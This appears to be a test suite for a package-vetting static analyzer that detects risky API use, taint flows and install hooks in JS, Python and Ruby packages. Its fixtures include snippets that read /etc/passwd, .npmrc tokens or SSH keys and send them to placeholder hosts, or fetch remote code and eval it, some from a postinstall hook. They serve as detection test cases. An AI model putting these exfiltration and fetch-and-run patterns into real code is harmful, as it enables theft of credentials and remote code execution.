"""Static stage: labels, parsing, usage matching, flows, hooks, closure."""

import json
import textwrap
from datetime import datetime, timezone

import pytest

from pkgvet.errors import ConfigInvalidError, MissingDepSummaryError, VersionOrderError
from pkgvet.model import PackageCoordinate, PackageMetadata, Registry, SubjectLanguage
from pkgvet.static import ir
from pkgvet.static.analyzer import (
    StaticReport,
    analyze_package,
    combine_usage,
    diff_api_categories,
    load_units,
    static_report_from_dict,
)
from pkgvet.static.flows import analyze_flows, func_summary_from_dict, summarize_exports
from pkgvet.static.hooks import detect_install_hook
from pkgvet.static.labels import Category, MatchMode, Role, load_api_labels, load_default_labels
from pkgvet.static.parse_js import parse_js
from pkgvet.static.parse_py import parse_py
from pkgvet.static.parse_rb import parse_rb
from pkgvet.static.usage import extract_api_usage

from tests.oracles import transitive_api_closure


@pytest.fixture(scope="module")
def labels():
    return load_default_labels()


# --- label loading ---

def test_default_labels_cover_all_languages(labels):
    assert set(labels) == {SubjectLanguage.PY, SubjectLanguage.JS, SubjectLanguage.RB}
    for lang in labels:
        assert len(labels[lang].labels) >= 20


def test_known_labels_present(labels):
    py = labels[SubjectLanguage.PY]
    assert py.by_qualified["urllib.request.urlopen"].category is Category.NETWORK
    assert py.by_global["eval"].category is Category.CODEGEN
    js = labels[SubjectLanguage.JS]
    assert js.by_qualified["child_process.exec"].category is Category.PROCESS
    rb = labels[SubjectLanguage.RB]
    # :: in config folds to dots
    assert "Net.HTTP.get" in rb.by_qualified


def _label_row(**overrides):
    row = {
        "language": "py", "qualified_name": "os.system", "category": "PROCESS",
        "roles": ["SINK"], "match_mode": "QUALIFIED_STATIC",
    }
    row.update(overrides)
    return row


def test_duplicate_label_rejected(tmp_path):
    p = tmp_path / "labels.json"
    p.write_text(json.dumps([_label_row(), _label_row()]))
    with pytest.raises(ConfigInvalidError) as exc:
        load_api_labels(p)
    assert "row 2" in str(exc.value)


def test_process_label_must_be_sink(tmp_path):
    p = tmp_path / "labels.json"
    p.write_text(json.dumps([_label_row(roles=["SOURCE"])]))
    with pytest.raises(ConfigInvalidError):
        load_api_labels(p)


# --- parsing ---

def test_js_alias_resolution_found(labels):
    unit = parse_js("a.js", "const h = require('https');\nh.get('https://x/y');\n")
    recs = extract_api_usage(unit, labels[SubjectLanguage.JS])
    assert [r.label.qualified_name for r in recs] == ["https.get"]
    assert recs[0].line == 2 and recs[0].mode_used == "qualified"


def test_js_esm_import(labels):
    unit = parse_js("a.mjs", "import { exec } from 'node:child_process';\nexec('ls');\n")
    recs = extract_api_usage(unit, labels[SubjectLanguage.JS])
    assert [r.label.qualified_name for r in recs] == ["child_process.exec"]


def test_js_parse_error_is_contained():
    unit = parse_js("broken.js", "function ( {{{")
    assert unit.parse_error is not None
    assert unit.body == ()


def test_empty_files_parse_clean():
    for parser, name in ((parse_js, "a.js"), (parse_py, "a.py"), (parse_rb, "a.rb")):
        unit = parser(name, "")
        assert unit.parse_error is None
        assert unit.body == ()


def test_py_from_import_alias(labels):
    unit = parse_py("b.py", "from subprocess import run as r\nr(['ls'])\n")
    recs = extract_api_usage(unit, labels[SubjectLanguage.PY])
    assert [r.label.qualified_name for r in recs] == ["subprocess.run"]


def test_rb_parenless_call_and_scope(labels):
    src = textwrap.dedent("""
        module Tool
          def self.go(cmd)
            system cmd
          end
        end
    """)
    unit = parse_rb("t.rb", src)
    decls = [s for s in unit.body if isinstance(s, ir.FuncDecl)]
    assert decls[0].name == "Tool.go"
    recs = extract_api_usage(unit, labels[SubjectLanguage.RB])
    assert [r.label.qualified_name for r in recs] == ["system"]


def test_rb_double_colon_paths(labels):
    unit = parse_rb("n.rb", "require 'net/http'\nNet::HTTP.get('x.example', '/')\n")
    recs = extract_api_usage(unit, labels[SubjectLanguage.RB])
    assert [r.label.qualified_name for r in recs] == ["Net.HTTP.get"]


def test_benign_call_matches_nothing(labels):
    unit = parse_js("c.js", "console.log('hello');\nMath.max(1, 2);\n")
    assert extract_api_usage(unit, labels[SubjectLanguage.JS]) == []


def test_instance_match_confidence(labels):
    src = "import socket\ns = socket.socket()\ns.send(b'x')\n"
    recs = extract_api_usage(parse_py("s.py", src), labels[SubjectLanguage.PY])
    send = [r for r in recs if r.label.qualified_name == "socket.send"]
    assert send and send[0].confidence == "high"
    # same method name with no constructor in sight stays low confidence
    recs2 = extract_api_usage(parse_py("s2.py", "q.send(b'x')\n"), labels[SubjectLanguage.PY])
    assert all(r.confidence == "low" for r in recs2)


# --- flows ---

def _js_flows(src, labels, dep_exports=None):
    return analyze_flows([parse_js("m.js", textwrap.dedent(src))], labels[SubjectLanguage.JS], dep_exports)


def test_flow_network_to_codegen_callbacks(labels):
    found = _js_flows("""
        const https = require('https');
        https.get('https://cdn.example/p.js', (res) => {
          let body = '';
          res.on('data', (d) => { body += d; });
          res.on('end', () => { eval(body); });
        });
    """, labels)
    assert [f.signature() for f in found] == [("https.get", "eval", ("NETWORK", "CODEGEN"))]
    path = found[0].path
    assert path[0][2].startswith("source ") and path[-1][2].startswith("sink ")


def test_flow_file_to_process(labels):
    found = _js_flows("""
        const fs = require('fs');
        const cp = require('child_process');
        const cmd = fs.readFileSync('/tmp/cmds');
        cp.execSync(cmd);
    """, labels)
    assert [f.category_pair() for f in found] == [("FILESYSTEM", "PROCESS")]


def test_untainted_sink_is_silent(labels):
    assert _js_flows("""
        const cp = require('child_process');
        cp.execSync('ls -la');
    """, labels) == []


def test_source_without_sink_is_silent(labels):
    assert _js_flows("""
        const fs = require('fs');
        const data = fs.readFileSync('/etc/hostname');
        const n = data.length;
    """, labels) == []


def test_flow_through_local_function(labels):
    found = _js_flows("""
        const fs = require('fs');
        function ship(payload) {
          const https = require('https');
          const req = https.request('https://c.example');
          req.write(payload);
        }
        ship(fs.readFileSync('/etc/passwd'));
    """, labels)
    sigs = {f.signature() for f in found}
    assert ("fs.readFileSync", "request.write", ("FILESYSTEM", "NETWORK")) in sigs


def test_dep_summary_equals_inline(labels):
    dep = parse_js("index.js", textwrap.dedent("""
        const https = require('https');
        function post(url, data) {
          const req = https.request(url);
          req.write(data);
          return req;
        }
        module.exports = { post };
    """))
    exports = summarize_exports([dep], labels[SubjectLanguage.JS])
    assert exports["post"].roles() == ["INDIRECT_SOURCE", "INDIRECT_SINK"]
    assert exports["post"].argument_positions() == [0, 1]

    via_summary = _js_flows("""
        const fs = require('fs');
        const wr = require('webreq');
        const token = fs.readFileSync('/home/u/.npmrc');
        wr.post('https://collect.example', token);
    """, labels, {"webreq": exports})
    inline = _js_flows("""
        const fs = require('fs');
        const https = require('https');
        function post(url, data) {
          const req = https.request(url);
          req.write(data);
          return req;
        }
        const token = fs.readFileSync('/home/u/.npmrc');
        post('https://collect.example', token);
    """, labels)
    assert sorted(f.signature() for f in via_summary) == sorted(f.signature() for f in inline)
    assert any(f.category_pair() == ("FILESYSTEM", "NETWORK") for f in via_summary)


def test_propagator_export(labels):
    dep = parse_js("w.js", "function wrap(x) { return x; }\nmodule.exports = { wrap };\n")
    exports = summarize_exports([dep], labels[SubjectLanguage.JS])
    assert exports["wrap"].roles() == ["PROPAGATOR"]
    found = _js_flows("""
        const fs = require('fs');
        const w = require('wrapper');
        eval(w.wrap(fs.readFileSync('/etc/passwd')));
    """, labels, {"wrapper": exports})
    assert [f.category_pair() for f in found] == [("FILESYSTEM", "CODEGEN")]


def test_callback_source_export(labels):
    dep = parse_js("f.js", textwrap.dedent("""
        const https = require('https');
        function fetch(url, cb) {
          https.get(url, (res) => { cb(res); });
        }
        module.exports = { fetch };
    """))
    exports = summarize_exports([dep], labels[SubjectLanguage.JS])
    assert exports["fetch"].callback_param_sources == {1: (("https.get", "NETWORK"),)}
    found = _js_flows("""
        const wf = require('webfetch');
        wf.fetch('https://x.example/p', (data) => { eval(data); });
    """, labels, {"webfetch": exports})
    assert [f.signature() for f in found] == [("https.get", "eval", ("NETWORK", "CODEGEN"))]


def test_default_export_binding(labels):
    dep = parse_js("d.js", textwrap.dedent("""
        function send(x) {
          const https = require('https');
          https.post('https://sink.example', x);
        }
        module.exports = send;
    """))
    exports = summarize_exports([dep], labels[SubjectLanguage.JS])
    assert "default" in exports and exports["default"].argument_positions() == [0]
    found = _js_flows("""
        const send = require('sender');
        const fs = require('fs');
        send(fs.readFileSync('/etc/passwd'));
    """, labels, {"sender": exports})
    assert [f.category_pair() for f in found] == [("FILESYSTEM", "NETWORK")]


def test_ruby_dep_flow(labels):
    dep = parse_rb("netsend.rb", textwrap.dedent("""
        require 'net/http'
        module NetSend
          def self.push(payload)
            Net::HTTP.post("collect.example", payload)
          end
        end
    """))
    exports = summarize_exports([dep], labels[SubjectLanguage.RB])
    assert exports["NetSend.push"].argument_positions() == [0]
    cons = parse_rb("grab.rb", textwrap.dedent("""
        require 'netsend'
        secret = File.read("/home/u/.ssh/id_rsa")
        NetSend.push(secret)
    """))
    found = analyze_flows([cons], labels[SubjectLanguage.RB], {"netsend": exports})
    assert [f.signature() for f in found] == [("File.read", "Net.HTTP.post", ("FILESYSTEM", "NETWORK"))]


def test_two_hop_chain_inside_dep(labels):
    dep = parse_js("deep.js", textwrap.dedent("""
        const https = require('https');
        function inner(x) {
          const req = https.request('https://c.example');
          req.write(x);
        }
        function outer(y) { inner(y); }
        module.exports = { outer };
    """))
    exports = summarize_exports([dep], labels[SubjectLanguage.JS])
    assert exports["outer"].argument_positions() == [0]
    found = _js_flows("""
        const fs = require('fs');
        const d = require('deep');
        d.outer(fs.readFileSync('/etc/passwd'));
    """, labels, {"deep": exports})
    assert any(f.category_pair() == ("FILESYSTEM", "NETWORK") for f in found)


def test_summary_round_trip(labels):
    dep = parse_js("r.js", "function wrap(x) { return x; }\nmodule.exports = { wrap };\n")
    exports = summarize_exports([dep], labels[SubjectLanguage.JS])
    doc = exports["wrap"].to_dict()
    assert func_summary_from_dict(json.loads(json.dumps(doc))).key() == exports["wrap"].key()


def test_python_exfil_flow(labels):
    unit = parse_py("collect.py", textwrap.dedent("""
        import fileinput
        import urllib.request
        data = fileinput.input("/etc/passwd")
        urllib.request.urlopen("https://t.example/up", data)
    """))
    found = analyze_flows([unit], labels[SubjectLanguage.PY])
    assert [f.signature() for f in found] == [
        ("fileinput.input", "urllib.request.urlopen", ("FILESYSTEM", "NETWORK")),
    ]


# --- install hooks ---

def _write_pkg(tmp_path, files):
    for rel, content in files.items():
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(textwrap.dedent(content))
    return tmp_path


def test_npm_postinstall_hook(tmp_path):
    root = _write_pkg(tmp_path, {
        "package.json": '{"name": "x", "scripts": {"postinstall": "node install.js"}}',
        "install.js": "console.log('hi');",
    })
    info = detect_install_hook(root, Registry.NPM)
    assert info.has_install_hook
    assert info.mechanisms == ("npm-script:postinstall",)
    assert info.scripts == ("install.js",)


def test_npm_plain_package_no_hook(tmp_path):
    root = _write_pkg(tmp_path, {"package.json": '{"name": "x", "scripts": {"test": "node t.js"}}'})
    assert not detect_install_hook(root, Registry.NPM).has_install_hook


def test_declarative_setup_py_no_hook(tmp_path):
    root = _write_pkg(tmp_path, {
        "setup.py": """
            from setuptools import setup, find_packages
            setup(name="clean", version="1.0.0", packages=find_packages())
        """,
    })
    assert not detect_install_hook(root, Registry.PYPI).has_install_hook


def test_imperative_setup_py_is_hook(tmp_path):
    root = _write_pkg(tmp_path, {
        "setup.py": """
            from setuptools import setup
            import subprocess
            subprocess.run(["uname", "-a"])
            setup(name="sneaky", version="1.0.0")
        """,
    })
    info = detect_install_hook(root, Registry.PYPI)
    assert info.has_install_hook and info.mechanisms == ("setup-py",)


def test_cmdclass_setup_py_is_hook(tmp_path):
    root = _write_pkg(tmp_path, {
        "setup.py": """
            from setuptools import setup
            from setuptools.command.install import install
            setup(name="x", cmdclass={"install": install})
        """,
    })
    assert detect_install_hook(root, Registry.PYPI).has_install_hook


def test_gem_extension_hook(tmp_path):
    root = _write_pkg(tmp_path, {"ext/thing/extconf.rb": "require 'mkmf'\ncreate_makefile('thing')\n"})
    info = detect_install_hook(root, Registry.RUBYGEMS)
    assert info.has_install_hook and "gem-extension" in info.mechanisms


# --- whole-package analysis ---

def _meta(tmp_path, registry, name, language, files):
    root = _write_pkg(tmp_path, files)
    return PackageMetadata(
        coordinate=PackageCoordinate(registry, name, "1.0.0"),
        authors=("a",),
        release_time=datetime(2026, 1, 5, tzinfo=timezone.utc),
        downloads=0,
        declared_deps=(),
        subject_language=language,
        file_inventory=(),
        source_root=str(root),
    )


def test_analyze_package_report(tmp_path, labels):
    meta = _meta(tmp_path, Registry.NPM, "evil", SubjectLanguage.JS, {
        "package.json": '{"name": "evil", "scripts": {"postinstall": "node run.js"}}',
        "run.js": "const https = require('https');\nhttps.get('https://c.example', (r) => { eval(r); });\n",
        "lib/util.js": "exports.id = function (x) { return x; };\n",
    })
    report = analyze_package(meta, labels[SubjectLanguage.JS])
    assert report.hook["has_install_hook"]
    assert ("NETWORK", "CODEGEN") in report.flow_pairs
    assert "https.get" in report.direct_apis
    assert "eval" in report.direct_apis
    assert report.exports["id"]["roles"] == ["PROPAGATOR"]
    doc = json.loads(json.dumps(report.to_dict()))
    assert static_report_from_dict(doc).to_dict() == report.to_dict()


def test_analyze_package_broken_file_noted(tmp_path, labels):
    meta = _meta(tmp_path, Registry.NPM, "halfbad", SubjectLanguage.JS, {
        "ok.js": "const cp = require('child_process');\ncp.execSync('ls');\n",
        "bad.js": "function ( {{{",
    })
    report = analyze_package(meta, labels[SubjectLanguage.JS])
    assert len(report.parse_errors) == 1
    assert "child_process.execSync" in report.direct_apis  # the good unit still analyzed


# --- combine_usage ---

def test_combine_no_deps_is_direct():
    direct = {"a": {"x", "y"}}
    assert combine_usage(direct, {}) == {"a": frozenset({"x", "y"})}


def test_combine_union_over_deps():
    direct = {"a": {"x"}, "b": {"y"}, "c": {"z"}}
    edges = {"a": ["b", "c"], "b": [], "c": []}
    got = combine_usage(direct, edges)
    assert got["a"] == {"x", "y", "z"}
    assert got["b"] == {"y"}


def test_combine_cycle_shares():
    direct = {"a": {"x"}, "b": {"y"}}
    edges = {"a": ["b"], "b": ["a"]}
    got = combine_usage(direct, edges)
    assert got["a"] == got["b"] == {"x", "y"}


def test_combine_missing_dep_summary():
    with pytest.raises(MissingDepSummaryError):
        combine_usage({"a": {"x"}}, {"a": ["ghost"]})


def test_combine_matches_bruteforce_closure():
    import random
    rng = random.Random(20260819)
    for _ in range(60):
        n = rng.randint(1, 18)
        keys = [f"k{i}" for i in range(n)]
        direct = {k: frozenset(rng.sample("abcdefgh", rng.randint(0, 4))) for k in keys}
        edges = {
            k: sorted({keys[j] for j in rng.sample(range(n), min(n - 1, rng.randint(0, 3))) if keys[j] != k})
            for k in keys
        }
        assert combine_usage(direct, edges) == transitive_api_closure(direct, edges)


# --- version diff ---

def _report(version, apis, categories):
    return StaticReport(
        coordinate=f"npm:lib:{version}", language="js",
        direct_apis=tuple(sorted(apis)), categories=tuple(sorted(categories)),
    )


def test_diff_added_categories():
    old = _report("1.0.0", ["fs.readFile"], ["FILESYSTEM"])
    new = _report("1.1.0", ["fs.readFile", "child_process.exec"], ["FILESYSTEM", "PROCESS"])
    diff = diff_api_categories(old, new)
    assert diff["added_apis"] == ["child_process.exec"]
    assert diff["added_categories"] == ["PROCESS"]


def test_diff_requires_older_base():
    old = _report("2.0.0", [], [])
    new = _report("1.0.0", ["eval"], ["CODEGEN"])
    with pytest.raises(VersionOrderError):
        diff_api_categories(old, new)
    with pytest.raises(VersionOrderError):
        diff_api_categories(new, new)


def test_load_units_size_cap(tmp_path):
    big = tmp_path / "big.js"
    big.write_text("// filler\n" * 300_000)
    units, notes = load_units(tmp_path, SubjectLanguage.JS)
    assert units == []
    assert any("size cap" in n for n in notes)
